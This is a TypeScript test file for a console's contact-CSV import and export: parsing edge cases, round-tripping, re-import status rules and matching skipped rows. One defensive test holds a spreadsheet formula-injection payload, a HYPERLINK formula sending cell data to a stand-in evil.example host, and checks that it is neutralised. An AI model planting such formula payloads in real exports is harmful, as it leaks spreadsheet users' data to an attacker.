// The console's CSV of contacts: reading a file (quotes, commas and line breaks inside quotes, a BOM, CRLF, blank
// lines, the header's email column in any case, variables, rows refused with their line), writing one that reads
// back the same, and matching the API's skipped-address reasons to the rows' lines.
import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { CsvProblem, readContactsCsv } from '../../../console/src/csv/read-contacts.js'
import { contactsCsv, type ExportedContact } from '../../../console/src/csv/write-contacts.js'
import { rowsOfSkipped } from '../../../console/src/csv/upload-contacts.js'

describe('reading a CSV of contacts in the console', () => {
  it('reads quoted fields holding commas, quotes and line breaks, and counts lines across them', () => {
    const csv = readContactsCsv('EMAIL,name,note\n"ann@example.com","Smith, Ann","says ""hi""\nand bye"\nbob@example.com,Bob,plain\n')
    assert.deepEqual(csv.variables, ['name', 'note'])
    assert.deepEqual(csv.contacts, [
      { line: 2, email: 'ann@example.com', variables: { name: 'Smith, Ann', note: 'says "hi"\nand bye' } },
      { line: 4, email: 'bob@example.com', variables: { name: 'Bob', note: 'plain' } },
    ])
    assert.deepEqual(csv.skipped, [])
  })

  it('skips a BOM, reads CRLF line ends, and passes over blank and comma-only lines (still counting them)', () => {
    const csv = readContactsCsv('\ufeffE-mail,City\r\n\r\nann@example.com,Oslo\r\n,,\r\n\r\nbob@example.com,"Ber\r\ngen"\r\ncid@example.com,\r\n')
    assert.deepEqual(
      csv.contacts.map((c) => [c.line, c.email, c.variables]),
      [
        [3, 'ann@example.com', { City: 'Oslo' }],
        [6, 'bob@example.com', { City: 'Ber\r\ngen' }],
        [8, 'cid@example.com', {}],
      ],
    )
  })

  it('sends a column as numbers only when every value in it is a plain number', () => {
    const csv = readContactsCsv('email,age,zip,score\na@example.com,31,0150,7\nb@example.com,,0151,x\n')
    assert.deepEqual(
      csv.contacts.map((c) => c.variables),
      [
        { age: 31, zip: '0150', score: '7' },
        { zip: '0151', score: 'x' },
      ],
    )
  })

  it('refuses a row with more fields than the header, naming its line, and keeps a shorter one', () => {
    const csv = readContactsCsv('email,name\na@example.com,A,extra\nb@example.com\n')
    assert.deepEqual(csv.skipped, [{ line: 2, reason: '3 fields where the header has 2' }])
    assert.deepEqual(csv.contacts, [{ line: 3, email: 'b@example.com', variables: {} }])
  })

  it('refuses a file without an email column, an empty one, a column named twice, and broken quoting', () => {
    assert.throws(() => readContactsCsv('name,city\nA,B\n'), (err: Error) => err instanceof CsvProblem && /no email column; it names: name, city/.test(err.message))
    assert.throws(() => readContactsCsv('\n\n'), (err: Error) => err instanceof CsvProblem && /empty/.test(err.message))
    assert.throws(() => readContactsCsv('email,city,city\n'), (err: Error) => err instanceof CsvProblem && /“city” twice/.test(err.message))
    assert.throws(() => readContactsCsv('email,<b>\n'), (err: Error) => err instanceof CsvProblem && /Column “<b>” cannot be a variable: Variable name "<b>" may hold only/.test(err.message))
    assert.throws(() => readContactsCsv('email\n"a@example.com\n'), (err: Error) => err instanceof CsvProblem && /not valid CSV/.test(err.message))
  })
})

describe('writing a CSV of contacts in the console', () => {
  it('quotes what needs it, ends lines with CRLF, starts with a BOM, and reads back the same', () => {
    const contacts: ExportedContact[] = [
      { email: 'ann@example.com', status_explain: 'Active', variables: { name: 'Smith, Ann', note: 'says "hi"\nbye' } },
      { email: 'bob@example.com', status_explain: 'Unsubscribed', variables: { age: 40, name: ' Bob' } },
    ]
    const text = contactsCsv(contacts)
    assert.equal(
      text,
      '\ufeffemail,status,name,note,age\r\nann@example.com,Active,"Smith, Ann","says ""hi""\nbye",\r\nbob@example.com,Unsubscribed," Bob",,40\r\n',
    )
    const read = readContactsCsv(text)
    assert.deepEqual(read.variables, ['name', 'note', 'age'])
    assert.deepEqual(read.contacts[0]?.variables, { name: 'Smith, Ann', note: 'says "hi"\nbye' })
  })

  it('puts an apostrophe before a cell a spreadsheet would read as a formula (=, +, -, @, tab, CR), as OWASP advises', () => {
    const contacts: ExportedContact[] = [
      { email: '-joe@example.com', status_explain: 'Active', variables: { a: '=HYPERLINK("https://evil.example/?"&A1)', b: '+1', c: -5, d: '@SUM(A1)', e: '\tx', f: '\rx' } },
      { email: 'ann@example.com', status_explain: 'Active', variables: { a: "'=already", b: "it's", c: 7, d: 'a=b', e: "'", f: '' } },
    ]
    const lines = contactsCsv(contacts).slice(1).split('\r\n')
    assert.equal(lines[1], `'-joe@example.com,Active,"'=HYPERLINK(""https://evil.example/?""&A1)",'+1,'-5,'@SUM(A1),'\tx,"'\rx"`)
    assert.equal(lines[2], `ann@example.com,Active,''=already,it's,7,a=b,',`)
  })

  it('reads an export back as it was: the apostrophes taken off, numbers still numbers, the status column not a variable', () => {
    const contacts: ExportedContact[] = [
      { email: '-joe@example.com', status_explain: 'Active', variables: { a: '=1+1', n: -5, q: "'=quoted", s: "it's" } },
      { email: 'new@example.com', status_explain: 'New', variables: { a: '@x', n: 3, q: "'", s: '' } },
      { email: 'gone@example.com', status_explain: 'Unsubscribed', variables: { a: 'x', n: 1 } },
      { email: 'bounced@example.com', status_explain: 'Sending error', variables: {} },
    ]
    const read = readContactsCsv(contactsCsv(contacts))
    assert.equal(read.statusColumn, true)
    assert.deepEqual(read.variables, ['a', 'n', 'q', 's'])
    assert.deepEqual(read.contacts, [
      { line: 2, email: '-joe@example.com', variables: { a: '=1+1', n: -5, q: "'=quoted", s: "it's" } },
      { line: 3, email: 'new@example.com', variables: { a: '@x', n: 3, q: "'" } },
    ])
    // The API would add them as Active: someone who left is not signed up again by a re-import.
    assert.deepEqual(read.skipped, [
      { line: 4, reason: 'Unsubscribed: not added again (it would be Active)' },
      { line: 5, reason: 'Sending error: not added again (it would be Active)' },
    ])
  })

  it('keeps a status column of other values as a variable, and an apostrophe before ordinary text', () => {
    const read = readContactsCsv("email,Status,note\na@example.com,gold,'hello\nb@example.com,Active,\n")
    assert.equal(read.statusColumn, false)
    assert.deepEqual(read.variables, ['Status', 'note'])
    assert.deepEqual(read.contacts.map((c) => c.variables), [{ Status: 'gold', note: "'hello" }, { Status: 'Active' }])
  })
})

describe('the rows the API skipped', () => {
  const batch = [
    { line: 2, email: 'ok@example.com', variables: {} },
    { line: 3, email: 'not an address', variables: {} },
    { line: 5, email: 'Blocked@Example.com', variables: {} },
    { line: 6, email: 'not an address', variables: {} },
  ]
  it('are found by the address each reason names, in order, a repeated address once per reason', () => {
    const reasons = ['"not an address" is not a valid email address', '"not an address" is not a valid email address', 'blocked@example.com is on the blacklist', 'something else']
    assert.deepEqual(rowsOfSkipped(batch, reasons), [
      { line: 3, reason: reasons[0] },
      { line: 5, reason: reasons[2] },
      { line: 6, reason: reasons[1] },
      { reason: 'something else' },
    ])
  })
})
